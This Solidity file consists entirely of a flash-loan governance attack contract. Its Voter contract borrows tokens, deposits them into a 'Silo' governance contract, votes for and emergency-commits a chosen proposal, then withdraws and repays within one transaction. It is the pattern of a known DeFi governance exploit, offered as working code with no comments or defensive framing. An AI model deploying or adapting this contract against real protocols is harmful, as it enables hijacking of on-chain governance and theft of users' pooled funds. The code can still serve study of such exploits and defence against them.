// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface ISilo {
    function depositBeans(uint256 amount) external;
    function withdrawBeans(uint256 amount) external;
    function support(uint32 bip) external;
    function emergencyCommit(uint32 bip) external;
}

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

contract Voter {
    ISilo private immutable silo;
    IToken private immutable bean;
    uint32 private bip;

    constructor(ISilo silo_, IToken bean_) {
        (silo, bean) = (silo_, bean_);
    }

    function go(ILender lender, uint256 amount, uint32 bip_) external {
        bip = bip_;
        lender.flashLoan(address(this), address(bean), amount, "");
        bean.transfer(msg.sender, bean.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        bean.approve(address(silo), amount);
        silo.depositBeans(amount);
        silo.support(bip);
        silo.emergencyCommit(bip);
        silo.withdrawBeans(amount);
        bean.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
